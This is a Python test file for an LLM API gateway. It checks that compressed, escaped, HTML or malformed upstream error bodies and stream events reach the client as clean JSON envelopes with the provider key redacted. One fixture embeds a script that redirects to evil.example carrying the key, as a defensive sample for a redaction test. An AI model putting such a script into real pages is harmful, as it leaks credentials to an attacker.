"""What a misbehaving upstream's answer becomes for the client: compressed, escaped, HTML or
odd-shaped error bodies, refused credentials, redirects, and streams with unreadable or
error events. The client always reads a well-formed envelope without the provider key."""

from __future__ import annotations

import gzip
import json
import random
import zlib
from collections.abc import Iterator
from typing import Any

import httpx
import openai
import pytest

from tests.support.fake_upstream import FakeUpstream
from tests.support.gateway import TEST_KEY, RunningGateway, gateway_yaml

MESSAGES: list[Any] = [{"role": "user", "content": "Say hello."}]
PROVIDER_KEY = "sk-upstream-secret-42"  # the fake provider's key in gateway_yaml
ESCAPED_KEY = "sk-\\u0075pstream-secret-42"  # the same key as JSON may spell it
HEADERS = {"authorization": f"Bearer {TEST_KEY}"}


@pytest.fixture
def gateway(upstream: FakeUpstream, sqlite_url: str) -> Iterator[RunningGateway]:
    # The backup sits on a provider of its own: a circuit is per provider.
    yaml = gateway_yaml(
        upstream.url,
        sqlite_url,
        providers=f"""  - {{id: other, adapter: openai, baseUrl: "{upstream.url}/v1"}}""",
        models="""  - {id: backup, provider: other, name: backup-model, capabilities: [chat],
     price: {input: 1.00, output: 2.00}}""",
        configurations="""  - {id: rescued, mode: fixed, model: small, fallback: [backup-chat]}
  - {id: backup-chat, mode: fixed, model: backup}""",
    ).replace(
        "circuitBreaker: {failureThreshold: 50, cooldownSeconds: 30}",
        "circuitBreaker: {failureThreshold: 2, cooldownSeconds: 30}",
    )
    running = RunningGateway(yaml)
    yield running
    running.stop()


def _post(gateway: RunningGateway, model: str = "chat", **extra: Any) -> httpx.Response:
    body = {"model": model, "messages": MESSAGES, **extra}
    return httpx.post(f"{gateway.url}/v1/chat/completions", json=body, headers=HEADERS, timeout=20)


def _stream(gateway: RunningGateway, model: str = "chat") -> tuple[int, str]:
    with httpx.stream(
        "POST",
        f"{gateway.url}/v1/chat/completions",
        json={"model": model, "messages": MESSAGES, "stream": True},
        headers=HEADERS,
        timeout=20,
    ) as response:
        return response.status_code, response.read().decode()


def _datas(body: str) -> list[str]:
    return [e.removeprefix("data: ") for e in body.split("\n\n") if e.startswith("data: ")]


def _text(datas: list[str]) -> str:
    chunks = [json.loads(d) for d in datas if d != "[DONE]" and '"error"' not in d]
    return "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks if c["choices"])


def _assert_no_key(text: str) -> None:
    assert PROVIDER_KEY not in text and "\\u0075pstream" not in text and "****" not in text


# --- compressed and escaped error bodies ------------------------------------------------------

ECHO = {
    "error": {
        "message": f"Bad request for key {PROVIDER_KEY} (sk-ups****t-42).",
        "type": "invalid_request_error",
        "param": "messages",
        "code": "bad_messages",
    }
}


@pytest.mark.parametrize(
    ("encoding", "compress"),
    [
        ("gzip", gzip.compress),
        ("deflate", zlib.compress),
        ("deflate", lambda raw: zlib.compress(raw)[2:-4]),  # raw deflate, no zlib header
    ],
)
def test_a_compressed_error_body_is_decoded_redacted_and_relayed_as_plain_json(
    gateway: RunningGateway, upstream: FakeUpstream, encoding: str, compress: Any
) -> None:
    upstream.behave(
        "small-model",
        fail_always=400,
        error_raw=compress(json.dumps(ECHO).encode()),
        error_headers={"content-encoding": encoding},
    )
    response = _post(gateway)
    assert response.status_code == 400
    assert "content-encoding" not in response.headers
    assert response.headers["content-type"] == "application/json"
    error = json.loads(response.content)["error"]
    assert error["code"] == "bad_messages" and error["param"] == "messages"
    assert error["message"] == "Bad request for key [redacted] ([redacted])."
    (row,) = gateway.rows()
    assert row["http_status"] == 400 and row["error_class"] == "upstream_4xx"


def test_an_error_body_in_an_encoding_the_gateway_cannot_undo_becomes_an_envelope(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    upstream.behave(
        "small-model",
        fail_always=404,
        error_raw=b"\x1b\x2a\x00\xf8" + PROVIDER_KEY.encode(),
        error_headers={"content-encoding": "br"},
    )
    with pytest.raises(openai.NotFoundError) as caught:
        gateway.client().chat.completions.create(model="chat", messages=MESSAGES)
    body = caught.value.body
    assert isinstance(body, dict) and body["code"] == "upstream_error"
    assert "could not decode (content-encoding br)" in body["message"]
    _assert_no_key(caught.value.response.text)


def test_a_json_escaped_echo_of_the_provider_key_is_redacted(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    raw = (
        '{"error": {"message": "Incorrect API key provided: ' + ESCAPED_KEY + '.", '
        '"type": "invalid_request_error", "param": null, "code": "invalid_key",'
        ' "metadata": {"raw": ["\\u0073k-upstream-secret-42", {"sk-ups\\u002a***t-42": 1}]}},'
        ' "user_id": "acct-7"}'
    )
    upstream.behave("small-model", fail_always=422, error_raw=raw.encode())
    with pytest.raises(openai.UnprocessableEntityError) as caught:
        gateway.client().chat.completions.create(model="chat", messages=MESSAGES)
    text = caught.value.response.text
    _assert_no_key(text)
    assert json.loads(text) == {
        "error": {
            "message": "Incorrect API key provided: [redacted].",
            "type": "invalid_request_error",
            "param": None,
            "code": "invalid_key",
            "metadata": {"raw": ["[redacted]", {"[redacted]": 1}]},
        }
    }  # what sat beside "error" (an account id) stays behind


# --- the provider refusing the gateway's credentials -------------------------------------------


@pytest.mark.parametrize("status", [401, 403])
def test_a_refused_provider_key_is_a_502_upstream_auth_failed_not_the_upstream_body(
    gateway: RunningGateway, upstream: FakeUpstream, status: int
) -> None:
    upstream.behave("small-model", fail_always=status, error_body=ECHO)
    with pytest.raises(openai.InternalServerError) as caught:
        gateway.client().chat.completions.create(model="chat", messages=MESSAGES)
    assert caught.value.status_code == 502
    body = caught.value.body
    assert isinstance(body, dict)
    assert (body["type"], body["code"]) == ("api_error", "upstream_auth_failed")
    assert "provider 'fake' rejected the gateway's credentials" in body["message"]
    assert "your API key is fine" in body["message"]
    assert "Bad request" not in caught.value.response.text  # the upstream's body stays home
    assert upstream.calls["small-model"] == 1  # maxRetries 2, but a retry cannot mend it
    (row,) = gateway.rows()
    assert row["error_class"] == "upstream_auth" and row["http_status"] == 502


def test_a_refused_provider_key_falls_back_and_opens_the_circuit(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    upstream.behave("small-model", fail_always=401)
    for _ in range(3):  # failureThreshold 2: the third call skips the refusing provider
        raw = gateway.client().chat.completions.with_raw_response.create(
            model="rescued", messages=MESSAGES
        )
        assert raw.headers["x-gateway-model"] == "backup"
    assert upstream.calls["small-model"] == 2
    rows = gateway.rows(expect=3)
    assert [(r["success"], r["served_model"]) for r in rows] == [(1, "backup")] * 3
    assert [r["fallback_attempts"] for r in rows] == [1, 1, 1]


# --- error bodies a client could not read -----------------------------------------------------

PAGE = (
    b"<!DOCTYPE html><html><head><title>Service &amp; Gateway Error</title>"
    b"<script>document.location='https://evil.example/?k=" + PROVIDER_KEY.encode() + b"'</script>"
    b"</head><body><h1>Oops</h1></body></html>"
)


@pytest.mark.parametrize(
    ("raw", "content_type", "expected"),
    [
        (PAGE, "text/html; charset=utf-8", "non-JSON error body (text/html): Service & Gateway"),
        (
            b"model\x00 gone \x1b[31m" + PROVIDER_KEY.encode(),
            "text/plain",
            ": model gone [redacted]",
        ),
        (b'{"detail": "Not Found"}', "application/json", "Not Found"),
        (b'{"detail": [{"loc": ["body"], "msg": "field required"}]}', "application/json", "field"),
        (b'"the model is gone"', "application/json", "the model is gone"),
        (b'{"error": "no such model"}', "application/json", "no such model"),
        (b'{"status": 404}', "application/json", 'no known shape: {"status":404}'),
        (b"", "text/plain", "with an empty error body"),
    ],
)
def test_an_error_body_that_is_no_openai_envelope_is_wrapped_in_one(
    gateway: RunningGateway,
    upstream: FakeUpstream,
    raw: bytes,
    content_type: str,
    expected: str,
) -> None:
    upstream.behave(
        "small-model",
        fail_always=404,
        error_raw=raw,
        error_headers={"content-type": content_type},
    )
    response = _post(gateway)
    assert response.status_code == 404  # a passthrough 4xx keeps its status
    assert response.headers["content-type"] == "application/json"
    error = response.json()["error"]
    assert set(error) == {"message", "type", "param", "code"}
    assert (error["type"], error["code"]) == ("invalid_request_error", "upstream_error")
    assert expected in error["message"]
    assert "<" not in error["message"] and "script" not in error["message"]
    assert "\x1b" not in error["message"] and "\x00" not in error["message"]
    _assert_no_key(response.text)
    (row,) = gateway.rows()
    assert row["http_status"] == 404 and row["error_class"] == "upstream_4xx"


# --- redirects ----------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [301, 307, 308])
def test_a_redirect_is_never_followed_and_fails_like_an_unusable_answer(
    gateway: RunningGateway, upstream: FakeUpstream, status: int
) -> None:
    # Followed, the redirect would land on a route that answers.
    target = f"{upstream.url}/openai/deployments/backup-model/chat/completions"
    upstream.behave(
        "small-model",
        fail_always=status,
        retry_after="0",
        error_raw=b"<a href='elsewhere'>moved</a>",
        error_headers={"location": target, "content-type": "text/html"},
    )
    response = _post(gateway)
    assert response.status_code == 502
    error = response.json()["error"]
    assert error["code"] == "upstream_error" and "fake/small: invalid_response" in error["message"]
    # Retried like an unusable 2xx until the circuit (threshold 2) opened; never followed.
    assert upstream.calls == {"small-model": 2}
    (row,) = gateway.rows()
    assert row["error_class"] == "invalid_upstream_response" and row["http_status"] == 502
    raw = gateway.client().chat.completions.with_raw_response.create(
        model="rescued", messages=MESSAGES
    )
    assert raw.headers["x-gateway-model"] == "backup"


def test_an_error_body_on_a_200_is_an_unusable_answer_not_a_success(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    upstream.behave(
        "small-model",
        raw_answer=json.dumps({"error": {"message": f"boom {PROVIDER_KEY}"}}).encode(),
    )
    response = _post(gateway)
    assert response.status_code == 502 and response.json()["error"]["code"] == "upstream_error"
    _assert_no_key(response.text)
    (row,) = gateway.rows()
    assert row["success"] == 0 and row["error_class"] == "invalid_upstream_response"
    raw = gateway.client().chat.completions.with_raw_response.create(
        model="rescued", messages=MESSAGES
    )
    assert raw.headers["x-gateway-model"] == "backup"


# --- streams ------------------------------------------------------------------------------------


def test_an_event_that_is_not_json_ends_the_stream_with_an_error_event(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    upstream.behave(
        "small-model", content="a b c d e f", inject_at=2, inject=b"data: <html>oops</html>\n\n"
    )
    status, body = _stream(gateway)
    assert status == 200
    assert "<html>" not in body and "[DONE]" not in body
    datas = _datas(body)
    assert _text(datas) == "a b"  # nothing after the bad event is relayed
    assert json.loads(datas[-1]) == {
        "error": {
            "message": "The upstream sent an event that is not JSON; the stream ends here.",
            "type": "api_error",
            "param": None,
            "code": "invalid_upstream_response",
        }
    }
    (row,) = gateway.rows(expect=1)
    assert row["success"] == 0 and row["error_class"] == "invalid_upstream_response"


def test_the_openai_sdk_reads_an_api_error_not_a_decode_crash(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    upstream.behave("small-model", content="a b c d", inject_at=1, inject=b"data: {oops\n\n")
    stream = gateway.client().chat.completions.create(model="chat", messages=MESSAGES, stream=True)
    seen = []
    with pytest.raises(openai.APIError) as caught:
        for chunk in stream:
            seen.append(chunk.choices[0].delta.content if chunk.choices else None)
    assert seen == ["a"]
    assert "not JSON" in caught.value.message


def test_a_bad_first_event_is_a_retryable_failure_a_fallback_answers(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    upstream.behave("small-model", inject_at=0, inject=b"data: <!DOCTYPE html>\n\n")
    upstream.behave("backup-model", content="rescued")
    status, body = _stream(gateway, "rescued")
    assert status == 200 and _text(_datas(body)) == "rescued"
    assert "DOCTYPE" not in body
    assert upstream.calls["small-model"] == 2  # retried (circuit threshold 2), then fell back
    (row,) = gateway.rows(expect=1)
    assert row["success"] == 1 and row["served_model"] == "backup"
    assert row["fallback_attempts"] == 1


def test_a_bad_first_event_without_fallback_answers_a_502_envelope(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    upstream.behave("small-model", inject_at=0, inject=b"data: 42\n\n", retry_after="0")
    status, body = _stream(gateway)
    assert status == 502
    assert json.loads(body)["error"]["code"] == "upstream_error"
    (row,) = gateway.rows(expect=1)
    assert row["error_class"] == "invalid_upstream_response" and row["http_status"] == 502


def test_a_compressed_stream_is_never_relayed_a_fallback_answers(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    # Long and random enough that its gzip bytes hold what looks like blank lines: relayed,
    # they would reach the client as blocks of garbage.
    rng = random.Random(7)
    pieces = [f" {rng.getrandbits(64):x}" for _ in range(4000)]
    upstream.behave("small-model", gzip_stream=True, stream_pieces=pieces)
    upstream.behave("backup-model", content="rescued")
    status, body = _stream(gateway, "rescued")
    assert status == 200 and _text(_datas(body)) == "rescued"
    (row,) = gateway.rows(expect=1)
    assert row["success"] == 1 and row["served_model"] == "backup"
    status, body = _stream(gateway, "chat")  # the circuit is open now: nothing else to try
    assert status == 503 and "\x1f\x8b" not in body


def test_a_keep_alive_comment_first_is_relayed_and_the_stream_succeeds(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    upstream.behave("small-model", content="a b", inject_at=0, inject=b": keep-alive\n\n")
    status, body = _stream(gateway)
    assert status == 200 and body.startswith(": keep-alive\n\n")
    assert _text(_datas(body)) == "a b" and body.endswith("data: [DONE]\n\n")
    (row,) = gateway.rows(expect=1)
    assert row["success"] == 1


def test_an_upstream_error_event_mid_stream_is_relayed_as_a_redacted_envelope(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    event = (
        '{"error": {"message": "quota of ' + ESCAPED_KEY + ' exhausted", "code": 429},'
        ' "user_id": "acct-7"}'
    )
    upstream.behave(
        "small-model", content="a b c d", inject_at=2, inject=f"data: {event}\n\n".encode()
    )
    status, body = _stream(gateway)
    assert status == 200 and "[DONE]" not in body
    _assert_no_key(body)
    datas = _datas(body)
    assert _text(datas) == "a b"
    assert json.loads(datas[-1]) == {
        "error": {
            "message": "quota of [redacted] exhausted",
            "type": "api_error",
            "param": None,
            "code": 429,
        }
    }
    (row,) = gateway.rows(expect=1)
    assert row["success"] == 0 and row["error_class"] == "upstream_5xx"


def test_an_error_named_event_with_text_data_becomes_an_envelope(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    inject = f"event: error\ndata: <b>boom</b> for {PROVIDER_KEY}\n\n".encode()
    upstream.behave("small-model", content="a b c", inject_at=1, inject=inject)
    _, body = _stream(gateway)
    error = json.loads(_datas(body)[-1])["error"]
    assert error["code"] == "upstream_error" and error["type"] == "api_error"
    assert "boom for [redacted]" in error["message"] and "<b>" not in error["message"]


def test_a_cut_stream_ends_with_the_stream_cut_envelope(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    upstream.behave("small-model", content="a b c d", cut_after=2)
    _, body = _stream(gateway)
    error = json.loads(_datas(body)[-1])["error"]
    assert set(error) == {"message", "type", "param", "code"}
    assert (error["type"], error["code"]) == ("api_error", "stream_cut")
